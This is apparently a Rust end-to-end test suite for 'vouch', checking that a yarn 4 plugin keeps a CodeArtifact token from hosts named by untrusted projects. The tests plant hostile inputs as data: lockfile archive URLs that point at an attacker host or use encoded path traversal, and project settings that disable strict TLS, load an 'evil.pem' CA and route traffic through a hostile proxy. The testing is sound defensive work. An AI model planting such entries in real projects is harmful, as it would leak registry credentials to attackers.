//! What a project's lock and settings can make yarn 4 do with the token. `docs/untrusted-projects.md` tells it.

use std::fs;

use vouch_e2e::hostile::HostileHost;
use vouch_e2e::node::{self, Client};
use vouch_e2e::{CommandOutput, Run, Sandbox, in_sandbox};

const YARN: Client = Client("yarn-4");
const PLUGIN: &str = ".vouch/yarn-plugin-vouch.cjs";
const HOST: &str = "my-domain-123456789012.d.codeartifact.us-east-1.amazonaws.com";

/// Set up, with packages in the repository and a project that depends on `left`.
fn begin(sandbox: &Sandbox) -> HostileHost {
    sandbox.enroll();
    sandbox.log_in();
    let _ = YARN.set_up(sandbox, &[]).ok();
    node::publish_three(sandbox, YARN);
    node::fresh_project(sandbox, YARN, "app");
    let _ = in_app(sandbox, &["add", "left"]).ok();
    HostileHost::start()
}

fn in_app(sandbox: &Sandbox, args: &[&str]) -> Run {
    YARN.run(sandbox, args).within(sandbox.file("app"))
}

/// Installs what the project asks for on a machine that has nothing of it.
fn installs(sandbox: &Sandbox) -> Run {
    for cache in ["app/node_modules", ".yarn", "app/.yarn"] {
        let _ = fs::remove_dir_all(sandbox.file(cache));
    }
    in_app(sandbox, &["install"]).env("YARN_HTTP_RETRY", "0")
}

/// The same with a plugin that only answers: what a test of the guard must be able to see.
fn without_guard<T>(sandbox: &Sandbox, body: impl FnOnce() -> T) -> T {
    let text = sandbox.read(PLUGIN);
    let bare = text.replace("async wrapNetworkRequest(", "async unused(");
    assert_ne!(bare, text);
    sandbox.write(PLUGIN, &bare);
    let value = body();
    sandbox.write(PLUGIN, &text);
    value
}

fn refused(done: &CommandOutput, text: &str) {
    let said = format!("{}{}", done.stdout, done.stderr);
    assert!(done.code != 0 && said.contains("vouch: refused to send the token of"), "{done}");
    assert!(said.contains(text), "{text}: {done}");
}

#[test]
fn a_lock_that_names_another_host_gets_no_token() {
    in_sandbox(&[], |sandbox| {
        let hostile = begin(sandbox);
        let honest = sandbox.read("app/yarn.lock");
        let _ = installs(sandbox).ok();
        let lock = |url: &str| {
            let url = url.replace(':', "%3A").replace('/', "%2F");
            let named = format!("resolution: \"left@npm:1.0.0::__archiveUrl={url}\"");
            let text = honest.replace("resolution: \"left@npm:1.0.0\"", &named);
            assert_ne!(text, honest);
            let lines = text.lines().filter(|line| !line.trim_start().starts_with("checksum:"));
            sandbox.write("app/yarn.lock", &lines.map(|line| format!("{line}\n")).collect::<String>());
        };
        let url = format!("{}/npm/{}/left/-/left-1.0.0.tgz", hostile.url(), node::REPOSITORY);
        sandbox.write("app/.yarnrc.yml", "unsafeHttpWhitelist: [\"127.0.0.1\"]\n");
        lock(&url);
        let done = without_guard(sandbox, || installs(sandbox).done());
        assert!(hostile.got_a_token(), "nothing to hold: {done}");
        refused(&installs(sandbox).done(), &format!("to {url}"));
        assert_eq!(hostile.arrived(), Vec::<String>::new());

        // Another repository, another port, plain HTTP on the host itself, and what a server may read as a way up.
        for url in [
            format!("https://{HOST}/npm/other-repo/left/-/left-1.0.0.tgz"),
            format!("https://{HOST}:8443/npm/my-npm-repo/left/-/left-1.0.0.tgz"),
            format!("http://{HOST}/npm/my-npm-repo/left/-/left-1.0.0.tgz"),
            format!("https://{HOST}/npm/my-npm-repo/../other-repo/left-1.0.0.tgz"),
            format!("https://{HOST}/npm/my-npm-repo/%252e%252e/other-repo/left-1.0.0.tgz"),
            format!("https://{HOST}/npm/my-npm-repo/..%252fother-repo/left-1.0.0.tgz"),
            format!("https://{HOST}/npm/my-npm-repo-2/left-1.0.0.tgz"),
        ] {
            lock(&url);
            refused(&installs(sandbox).done(), HOST);
        }
        // The registry's own place goes on, in whatever way it is named.
        lock(&format!("https://{HOST}/npm/my-npm-repo/left/-/left-1.0.0.tgz"));
        let _ = installs(sandbox).ok();
        sandbox.write("app/yarn.lock", &honest);
        let _ = installs(sandbox).ok();
    });
}

#[test]
fn a_project_that_lets_others_read_tls_gets_no_token() {
    in_sandbox(&[], |sandbox| {
        let hostile = begin(sandbox);
        sandbox.write("app/evil.pem", hostile.certificate());
        sandbox.write("evil.pem", hostile.certificate());
        let proxy = format!("httpsProxy: \"{}\"\n", hostile.url());
        let settings = [
            ("enableStrictSsl", "enableStrictSsl: false\n".to_owned()),
            ("httpsCaFilePath", "httpsCaFilePath: ./evil.pem\n".to_owned()),
            (
                "networkSettings",
                "networkSettings:\n  \"*.amazonaws.com\":\n    httpsCaFilePath: ./evil.pem\n".to_owned(),
            ),
        ];
        let own = sandbox.read(".yarnrc.yml");
        for (name, lines) in &settings {
            sandbox.write("app/.yarnrc.yml", &format!("{proxy}{lines}"));
            let done = without_guard(sandbox, || installs(sandbox).done());
            assert!(hostile.got_a_token(), "nothing to hold: {done}");
            refused(&installs(sandbox).done(), &format!("app/.yarnrc.yml` sets `{name}`"));
            assert_eq!(hostile.arrived(), Vec::<String>::new());
            // Above the project, too.
            fs::create_dir_all(sandbox.file("app/inner")).unwrap();
            sandbox.write("app/inner/package.json", "{\"name\": \"inner\"}");
            sandbox.write("app/inner/yarn.lock", "");
            let done = in_app(sandbox, &["add", "left"]).within(sandbox.file("app/inner")).done();
            refused(&done, &format!("app/.yarnrc.yml` sets `{name}`"));
            // The user's own file decides, and so does the environment.
            fs::remove_file(sandbox.file("app/.yarnrc.yml")).unwrap();
            sandbox.write(".yarnrc.yml", &format!("{own}{proxy}{lines}"));
            let _ = installs(sandbox).done();
            assert!(hostile.got_a_token(), "{name}");
            sandbox.write(".yarnrc.yml", &own);
        }
        sandbox.write("app/.yarnrc.yml", &proxy);
        let _ = installs(sandbox).env("YARN_ENABLE_STRICT_SSL", "false").done();
        assert!(hostile.got_a_token());
        // Its proxy alone learns nothing: yarn looks at the certificate.
        let done = installs(sandbox).done();
        assert!(done.code != 0 && !hostile.got_a_token(), "{done}");
        // For another host, and the user's choice again in the project: nothing to refuse.
        let other =
            "networkSettings:\n  \"*.example\":\n    httpsCaFilePath: ./evil.pem\nenableStrictSsl: true\n";
        sandbox.write("app/.yarnrc.yml", other);
        let _ = installs(sandbox).ok();
    });
}

#[test]
fn what_people_do_with_yarn_goes_on() {
    in_sandbox(&[], |sandbox| {
        let hostile = begin(sandbox);
        let second =
            ["setup", "codeartifact", "--tool", "yarn", "--repository", "my-repo", "--scope", "@acme"];
        let _ = YARN.prepared(sandbox, "vouch").args(second).args(vouch_e2e::MY_DOMAIN).ok();
        node::package(sandbox, "theirs", "@acme/theirs", &["left"]);
        let _ = YARN.publish(sandbox, "theirs").ok();
        sandbox.write("app/.yarnrc.yml", "npmPreapprovedPackages: [\"@acme/*\"]\n");
        let commands: [&[&str]; 7] = [
            &["add", "@acme/theirs", "plain"],
            &["npm", "info", "left"],
            &["npm", "info", "@acme/theirs"],
            &["npm", "tag", "list", "@acme/theirs"],
            &["npm", "whoami"],
            &["npm", "audit"],
            &["dlx", "left"],
        ];
        for command in commands {
            let bare = without_guard(sandbox, || in_app(sandbox, command).done());
            let done = in_app(sandbox, command).done();
            assert_eq!(done.code, bare.code, "{bare}\n{done}");
            let _ = done.never_says("vouch:");
        }
        let _ = in_app(sandbox, &["node", "-e", "require('@acme/theirs')"]).ok();
        assert_eq!(hostile.arrived(), Vec::<String>::new());
    });
}
